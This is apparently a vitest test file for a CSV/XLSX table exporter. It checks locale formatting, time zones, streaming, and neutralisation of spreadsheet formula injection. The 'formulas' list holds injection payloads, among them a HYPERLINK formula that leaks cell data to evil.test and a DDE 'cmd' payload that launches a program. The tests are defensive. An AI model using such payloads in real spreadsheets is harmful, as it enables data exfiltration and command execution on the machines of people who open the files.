import { buffer } from 'node:stream/consumers';
import { parse } from 'csv-parse/sync';
import readSheets from 'read-excel-file/node';
import { describe, expect, test } from 'vitest';
import { languageCodes } from '#contract/platform/language.ts';
import { type Cell, type Column, type Table, writeTable } from './table.ts';

const columns = [
  { key: 'name', title: 'Nimi', type: 'text' },
  { key: 'count', title: '=1+1', type: 'number' },
  { key: 'price', title: 'Hind; "€"', type: 'money' },
  { key: 'born', title: 'Sünniaeg', type: 'day' },
  { key: 'seen', title: 'Aeg', type: 'instant' },
] as const satisfies Column[];
type Row = Record<(typeof columns)[number]['key'], Cell>;

const bear: Row = {
  name: 'Õun',
  count: 1.5,
  price: 1205,
  born: '2024-02-29',
  seen: '2026-10-25T00:30:00.000Z',
};
const table = (rows: Iterable<Row> | AsyncIterable<Row>, more: Partial<Table> = {}): Table => ({
  columns,
  rows: (async function* () {
    yield* rows;
  })(),
  format: 'csv',
  language: 'et',
  timezone: 'Europe/Tallinn',
  now: '2026-10-14T08:00:00.000Z',
  ...more,
});
const named = (...names: string[]): Row[] => names.map((name) => ({ ...bear, name }));

const readCsv = async (given: Table) => {
  const text = (await buffer(writeTable(given))).toString();
  return {
    text,
    rows: parse(text, { bom: true, delimiter: given.language === 'en' ? ',' : ';' }) as string[][],
  };
};
const readXlsx = async (given: Table) => {
  const [sheet] = await readSheets(await buffer(writeTable({ ...given, format: 'xlsx' })));
  return sheet?.data ?? [];
};

/** What a spreadsheet would run, or what would break out of a cell or of the file. */
const formulas = [
  '=1+1',
  '=HYPERLINK("https://evil.test?"&A1;"click")',
  "=cmd|'/C calc'!A0",
  '+1',
  '-1',
  '-2+3',
  '@SUM(1)',
  '\t=1',
  '\r=1',
  '\n=1',
  ' =1+1',
  '\u00a0=1',
  '\u200b=1',
  '\ufeff=1',
  '＝1',
  '＋1',
  '－1',
  '＠a',
  '=1;=2',
  '=1,"=2',
  '+372 512 3456',
];
const texts = [
  'Mari',
  'a;b',
  'a,b',
  '"',
  'a"b',
  'a\nb',
  'a\r\nb',
  '',
  "'",
  'a=b',
  '5',
  '2026-10-14',
  '007',
  '1e5',
  'Ёж',
  'שלום',
  '🦔',
  '</t>',
  '&amp;',
  ']]>',
  '_x0041_',
  ' edge ',
];

describe('csv', () => {
  test('comes with a byte order mark, semicolons and decimal commas where Excel expects them', async () => {
    const { text } = await readCsv(table([bear]));
    expect(text).toBe(
      '\ufeffNimi;\'=1+1;"Hind; ""€""";Sünniaeg;Aeg\r\nÕun;1,5;12,05;2024-02-29;2026-10-25 03:30\r\n',
    );
    for (const language of languageCodes) {
      const { rows } = await readCsv(table([bear], { language }));
      expect(rows[1]?.slice(1, 3)).toEqual(language === 'en' ? ['1.5', '12.05'] : ['1,5', '12,05']);
    }
  });

  test('shows no spreadsheet a formula', async () => {
    const { rows } = await readCsv(table(named(...formulas)));
    expect(rows.slice(1).map(([name]) => name)).toEqual(formulas.map((text) => `'${text}`));
  });

  test('keeps every other text as it is, and negative numbers as numbers', async () => {
    const { rows } = await readCsv(table(named(...texts)));
    expect(rows.slice(1).map(([name]) => name)).toEqual(texts);
    const negative = await readCsv(table([{ ...bear, count: -3, price: -5 }]));
    expect(negative.rows[1]?.slice(1, 3)).toEqual(['-3', '-0,05']);
  });
});

describe('xlsx', () => {
  test('has real numbers and dates, in the local time of the zone', async () => {
    expect(await readXlsx(table([bear]))).toEqual([
      ['Nimi', '=1+1', 'Hind; "€"', 'Sünniaeg', 'Aeg'],
      ['Õun', 1.5, 12.05, new Date('2024-02-29T00:00:00Z'), new Date('2026-10-25T03:30:00Z')],
    ]);
  });

  test('keeps every text as text, also what looks like a formula or a number', async () => {
    const all = [...formulas, ...texts].filter((text) => text !== '');
    const rows = await readXlsx(table(named(...all)));
    // The library that reads them back cuts blanks at the ends.
    expect(rows.slice(1).map(([name]) => String(name).trim())).toEqual(all.map((text) => text.trim()));
    expect(rows.slice(1).every(([name]) => typeof name === 'string')).toBe(true);
  });

  test('stays readable with control characters, broken pairs, texts beyond a cell, and days before Excel', async () => {
    const rows = await readXlsx(
      table([{ ...bear, name: `\u0001\u001f\ufffe\ud800${'x'.repeat(40_000)}`, born: '1900-02-01' }]),
    );
    expect(String(rows[1]?.[0])).toContain('xxx');
    expect(rows[1]?.[3]).toBe('1900-02-01');
  });

  test('leaves cells empty, and names columns beyond Z', async () => {
    const wide = Array.from(
      { length: 30 },
      (_, index) => ({ key: `c${index}`, title: `T${index}`, type: 'number' }) as const,
    );
    const rows = (async function* () {
      yield { c0: 1, c29: 30 } as Record<string, Cell>;
    })();
    const [, row] = await readXlsx(table([], { columns: wide, rows }));
    expect([row?.[0], row?.[1], row?.[26], row?.[29]]).toEqual([1, null, null, 30]);
  });
});

describe.each(['csv', 'xlsx'] as const)('%s', (format) => {
  test('without rows has its heading', async () => {
    const rows = format === 'csv' ? (await readCsv(table([]))).rows : await readXlsx(table([]));
    expect(rows).toHaveLength(1);
  });

  test('reads no more rows than the reader takes, and stops when the reader goes away', async () => {
    let read = 0;
    let left = false;
    const endless = (async function* () {
      try {
        for (; ; read += 1) yield { ...bear, name: crypto.randomUUID() };
      } finally {
        left = true;
      }
    })();
    const stream = writeTable(table([], { rows: endless, format }));
    await new Promise((resolve) => stream.once('readable', resolve));
    // It stops by itself when nobody takes what is written.
    let before = -1;
    await expect
      .poll(() => {
        const standsStill = before === read;
        before = read;
        return standsStill;
      })
      .toBe(true);
    expect(read).toBeLessThan(50_000);
    stream.destroy();
    await expect.poll(() => left).toBe(true);
  });

  test('breaks off where the rows do', async () => {
    const broken = (async function* () {
      yield bear;
      throw new Error('gone');
    })();
    await expect(buffer(writeTable(table([], { rows: broken, format })))).rejects.toThrow('gone');
  });
});
